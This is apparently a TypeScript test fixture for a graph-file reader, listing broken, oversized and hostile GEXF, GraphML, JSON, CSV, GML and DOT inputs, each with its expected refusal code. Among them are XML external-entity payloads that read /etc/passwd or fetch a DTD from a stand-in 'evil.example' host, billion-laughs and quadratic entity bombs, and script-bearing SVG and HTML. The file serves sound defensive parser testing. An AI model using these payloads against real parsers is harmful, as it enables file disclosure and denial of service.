// Files that are broken, huge or meant to do harm, each with the reason for which it is refused.

import type { RefusalCode } from '../../../src/formats/graph-files/reading.ts'
import { limits } from '../../../src/formats/index.ts'

export const bytes = (...parts: readonly (string | readonly number[])[]) =>
  new Uint8Array(
    parts.flatMap(part => (typeof part === 'string' ? [...new TextEncoder().encode(part)] : [...part])),
  )

export const utf16 = (text: string) =>
  bytes(
    [0xff, 0xfe],
    [...text].flatMap(letter => [letter.charCodeAt(0), 0]),
  )

export const gexf = (graph: string, prolog = '') =>
  `<?xml version="1.0" encoding="UTF-8"?>${prolog}<gexf version="1.3"><graph>${graph}</graph></gexf>`
const nodes = '<nodes><node id="a"/><node id="b"/></nodes>'
export const graphml = (graph: string, keys = '') =>
  `<graphml>${keys}<graph edgedefault="directed">${graph}</graph></graphml>`
export const json = (value: object) => JSON.stringify(value)

const laughs = `<!DOCTYPE gexf [<!ENTITY a "ha">${Array.from('bcdefghij', (name, n) => `<!ENTITY ${name} "${`&${'abcdefghi'[n]};`.repeat(10)}">`).join('')}]>`

/** Each made only when it is asked for: some are large. */
type Hostile = readonly [
  what: string,
  name: string,
  make: () => string | Uint8Array,
  code: RefusalCode,
  parts?: object,
]

export const hostile: readonly Hostile[] = [
  ['nothing', 'a.gexf', () => '', 'empty'],
  ['no bytes', 'a.graphml', () => bytes(), 'empty'],
  ['white space', 'a.json', () => ' \n\t\r\n', 'empty'],
  ['a byte order mark alone', 'a.gexf', () => bytes([0xef, 0xbb, 0xbf]), 'empty'],
  ['random bytes', 'a.gexf', () => bytes([0x13, 0x00, 0xff, 0x9a, 0x00, 0x01, 0xfe, 0x80]), 'encoding'],
  ['null bytes', 'a.gexf', () => bytes([0, 0, 0, 0, 0, 0, 0, 0]), 'foreign', { found: 'binary' }],
  ['a null byte within', 'a.gexf', () => gexf(`${nodes}\u0000<edges/>`), 'foreign', { found: 'binary' }],
  [
    'a ZIP archive',
    'graph.gexf',
    () => bytes([0x50, 0x4b, 3, 4], 'mimetype'),
    'foreign',
    { found: 'archive' },
  ],
  [
    'a file packed with gzip',
    'graph.graphml',
    () => bytes([0x1f, 0x8b, 8, 0]),
    'foreign',
    { found: 'archive' },
  ],
  ['a PDF', 'paper.gexf', () => bytes('%PDF-1.7\n', [0xe2, 0xe3]), 'foreign', { found: 'pdf' }],
  ['a picture', 'a.gexf', () => bytes([0x89], 'PNG\r\n', [0x1a]), 'foreign', { found: 'image' }],
  [
    'an SVG with script',
    'a.gexf',
    () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(1)</script></svg>',
    'foreign',
    { found: 'svg' },
  ],
  [
    'a web page',
    'a.graphml',
    () => '<!DOCTYPE html><html><body onload="alert(1)"></body></html>',
    'foreign',
    { found: 'html' },
  ],
  [
    'XML of another kind',
    'feed.xml',
    () => '<rss version="2.0"><channel/></rss>',
    'foreign',
    { found: 'xml' },
  ],
  [
    'prose called a graph',
    'a.gexf',
    () => 'Dear colleague, here is the graph.',
    'foreign',
    { found: 'text' },
  ],
  [
    'JSON of another kind',
    'a.json',
    () => json({ name: 'verband', version: '1' }),
    'foreign',
    { found: 'json' },
  ],
  ['a number in JSON', 'a.json', () => '17', 'foreign', { found: 'text' }],
  [
    'another root, called GEXF',
    'a.gexf',
    () => '<graph/>',
    'wrong-root',
    { found: 'graph', expected: 'gexf' },
  ],
  ['GEXF cut off', 'a.gexf', () => gexf(nodes).slice(0, -20), 'cut-off', { notation: 'XML', line: 1 }],
  [
    'GraphML cut off within a tag',
    'a.graphml',
    () => '<graphml>\n<graph>\n<node id="',
    'cut-off',
    { line: 3 },
  ],
  [
    'JSON cut off',
    'a.json',
    () => JSON.stringify({ nodes: [{ key: 'a' }], edges: [] }, null, 1).slice(0, -3),
    'cut-off',
    { notation: 'JSON', line: 7 },
  ],
  ['tags that cross', 'a.gexf', () => '<gexf><graph><nodes></graph></nodes></gexf>', 'malformed'],
  ['two formats in one file', 'a.gexf', () => gexf(nodes) + graphml('<node id="a"/>'), 'malformed'],
  ['JSON after XML', 'a.gexf', () => `${gexf(nodes)}{"nodes":[]}`, 'malformed'],
  ['an attribute twice', 'a.gexf', () => gexf('<nodes><node id="a" id="b"/></nodes>'), 'malformed'],
  ['a control character', 'a.gexf', () => gexf('<nodes><node id="\u0001"/></nodes>'), 'malformed'],
  [
    'a reference to a control character',
    'a.gexf',
    () => gexf('<nodes><node id="&#1;"/></nodes>'),
    'malformed',
  ],
  ['an entity that nobody declared', 'a.gexf', () => gexf('<nodes><node id="&evil;"/></nodes>'), 'malformed'],
  [
    'a billion laughs',
    'a.gexf',
    () => gexf('<nodes><node id="a" label="&j;"/></nodes>', laughs),
    'declarations',
  ],
  [
    'an external entity',
    'a.graphml',
    () => `<!DOCTYPE graphml [<!ENTITY x SYSTEM "file:///etc/passwd">]>${graphml('<node id="&x;"/>')}`,
    'declarations',
  ],
  [
    'an external entity of parameters',
    'a.gexf',
    () => gexf(nodes, '<!DOCTYPE gexf [<!ENTITY % d SYSTEM "http://evil.example/x.dtd"> %d;]>'),
    'declarations',
  ],
  [
    'a quadratic blowup',
    'a.gexf',
    () =>
      gexf(
        `<nodes><node id="${'&a;'.repeat(100_000)}"/></nodes>`,
        `<!DOCTYPE gexf [<!ENTITY a "${'a'.repeat(100_000)}">]>`,
      ),
    'declarations',
  ],
  [
    'more bytes than the limit',
    'a.gexf',
    () => gexf(`${nodes}<!--${'x'.repeat(limits.size)}-->`),
    'too-much',
    { limit: 'size' },
  ],
  [
    'more than a million edges in GEXF',
    'a.gexf',
    () => gexf(`${nodes}<edges>${'<edge source="a" target="b"/>'.repeat(limits.edges + 1)}</edges>`),
    'too-much',
    { limit: 'edges' },
  ],
  [
    'more than a million edges in GraphML',
    'a.graphml',
    () => graphml(`<node id="a"/>${'<edge\nsource="a" target="a"/>'.repeat(limits.edges + 1)}`),
    'too-much',
    { limit: 'edges' },
  ],
  [
    'more than a million edges in JSON',
    'a.json',
    () => `{"nodes":[{"key":"a"}],"edges":[${'{"source":"a","target":"a"},'.repeat(limits.edges)}{}]}`,
    'too-much',
    { limit: 'edges' },
  ],
  [
    'too many nodes',
    'a.gexf',
    () =>
      gexf(
        `<nodes>${Array.from({ length: limits.nodes + 1 }, (_, n) => `<node id="${n}"/>`).join('')}</nodes>`,
      ),
    'too-much',
    { limit: 'nodes' },
  ],
  [
    'a hundred thousand attributes of one element',
    'a.gexf',
    () => gexf(`<nodes><node ${Array.from({ length: 100_000 }, (_, n) => `a${n}=""`).join(' ')}/></nodes>`),
    'too-much',
    { limit: 'attributes' },
  ],
  [
    'a hundred thousand declared attributes',
    'a.graphml',
    () => graphml('', Array.from({ length: 100_000 }, (_, n) => `<key id="${n}" for="node"/>`).join('')),
    'too-much',
    { limit: 'attributes' },
  ],
  [
    'a value of two megabytes',
    'a.gexf',
    () => gexf(`<nodes><node id="a" label="${'x'.repeat(2_000_000)}"/></nodes>`),
    'too-much',
    { limit: 'length' },
  ],
  [
    'a text of two megabytes',
    'a.graphml',
    () =>
      graphml(
        `<node id="a"><data key="k">${'x'.repeat(2_000_000)}</data></node>`,
        '<key id="k" for="node"/>',
      ),
    'too-much',
    { limit: 'length' },
  ],
  [
    'few defaults for many nodes',
    'a.gexf',
    () => {
      const declared = Array.from(
        { length: 1000 },
        (_, n) => `<attribute id="${n}" title="a${n}" type="string"><default>x</default></attribute>`,
      )
      const many = Array.from({ length: 100_000 }, (_, n) => `<node id="${n}"/>`)
      return gexf(`<attributes class="node">${declared.join('')}</attributes><nodes>${many.join('')}</nodes>`)
    },
    'too-much',
    { limit: 'values' },
  ],
  [
    'groups in groups without end',
    'a.gexf',
    () => gexf('<nodes><node id="a">'.repeat(100_000)),
    'too-much',
    { limit: 'depth' },
  ],
  [
    'a hundred thousand open elements',
    'a.graphml',
    () => `<graphml>${'<a>'.repeat(100_000)}`,
    'too-much',
    { limit: 'depth' },
  ],
  ['a hundred thousand open brackets', 'a.json', () => `{"nodes":${'['.repeat(100_000)}`, 'cut-off'],
  [
    'a string without end, full of quotes',
    'a.json',
    () => `{"${'\\"'.repeat(2_000_000)}`,
    'foreign',
    { found: 'json' },
  ],
  ['a comment without end, full of hyphens', 'a.gexf', () => `<!--${'-'.repeat(100_000)}`, 'malformed'],
  ['GEXF without a graph', 'a.gexf', () => '<gexf version="1.3"><meta/></gexf>', 'no-graph'],
  ['GraphML without a graph', 'a.graphml', () => '<graphml/>', 'no-graph'],
  [
    'a byte order mark of UTF-16, and nothing like it',
    'a.gexf',
    () => bytes([0xff, 0xfe], '<gexf/>'),
    'encoding',
    { encoding: 'utf-16le' },
  ],
  [
    'Latin-1 that calls itself UTF-8',
    'a.gexf',
    () => bytes('<?xml version="1.0" encoding="UTF-8"?><gexf><!-- Belgi', [0xeb], ' --></gexf>'),
    'encoding',
    { encoding: 'UTF-8' },
  ],
  [
    'an encoding that there is not',
    'a.gexf',
    () => bytes('<?xml version="1.0" encoding="x-evil"?><gexf/>'),
    'encoding',
    { encoding: 'x-evil' },
  ],
  [
    'an encoding that hides tags',
    'a.gexf',
    () => bytes('<?xml version="1.0" encoding="UTF-7"?><gexf>+ADw-script+AD4-</gexf>'),
    'encoding',
    { encoding: 'UTF-7' },
  ],
  [
    'JSON with a word that is none',
    'a.json',
    () => '{"nodes":[\n{"id":"a"},\n{"id":b}]}',
    'malformed',
    { notation: 'JSON', line: 3 },
  ],
  [
    'JSON with a line break in a text',
    'a.json',
    () => '{"nodes":[{"id":"a",\n"name":"two\nlines"}]}',
    'malformed',
    { line: 2 },
  ],
  ['JSON whose nodes are a word', 'a.json', () => '{"nodes":"none"}', 'wrong-shape', { place: 'nodes' }],
  [
    'JSON whose links are a number',
    'a.json',
    () => '{"nodes":[],"links":7}',
    'wrong-shape',
    { place: 'links' },
  ],
  ['JSON of a graph without lists', 'a.json', () => '{"graph":{}}', 'no-graph', { expected: 'nodes' }],
  [
    'a table whose quotes do not end',
    'a.csv',
    () => 'source,target\na,b\n"c,d\ne,f\n',
    'malformed',
    { notation: 'CSV', line: 3 },
  ],
  ['a table of one column', 'a.csv', () => 'Ann\nBen\n', 'no-ends', { columns: 'Ann' }],
  [
    'a table of measures',
    'a.csv',
    () => 'country;population\nBelgium;11,5\nFrance;67\n',
    'no-ends',
    { columns: 'country, population' },
  ],
  ['a spreadsheet', 'a.xlsx', () => bytes([0x50, 0x4b, 3, 4], 'xl'), 'foreign', { found: 'spreadsheet' }],
  ['a spreadsheet of before 2007', 'a.xls', () => bytes([0xd0, 0xcf, 0x11, 0xe0]), 'foreign'],
  ['a project of Gephi', 'a.gephi', () => bytes([0x50, 0x4b, 3, 4]), 'foreign', { found: 'gephi' }],
  ['a DL file of UCINET', 'a.dl', () => 'dl n=3 format=edgelist1\nlabels: a,b,c', 'foreign', { found: 'dl' }],
  ['a SIF file of Cytoscape', 'a.sif', () => 'a pp b\nb pp c\n', 'foreign', { found: 'sif' }],
  ['GML cut off', 'a.gml', () => 'graph [\n node [ id 1\n', 'cut-off', { notation: 'GML', line: 3 }],
  [
    'GML with a bracket too many',
    'a.gml',
    () => 'graph [\n node [ id 1 ] ]\n]',
    'malformed',
    { notation: 'GML', line: 3 },
  ],
  ['a hundred thousand open lists of GML', 'a.gml', () => `graph [ ${'a ['.repeat(100_000)}`, 'too-much'],
  ['DOT cut off', 'a.dot', () => 'digraph {\n a -> b\n', 'cut-off', { notation: 'DOT' }],
  ['DOT with half an edge', 'a.dot', () => 'digraph {\n a ->\n}', 'malformed', { line: 3 }],
  ['a hundred thousand open groups of DOT', 'a.dot', () => `graph ${'{a '.repeat(100_000)}`, 'too-much'],
  ['a string of DOT without end', 'a.dot', () => `graph { "${'\\"'.repeat(1_000_000)}`, 'cut-off'],
  ['Pajek without vertices', 'a.net', () => '*Network x\n*Arcs\n1 2\n', 'no-graph'],
]
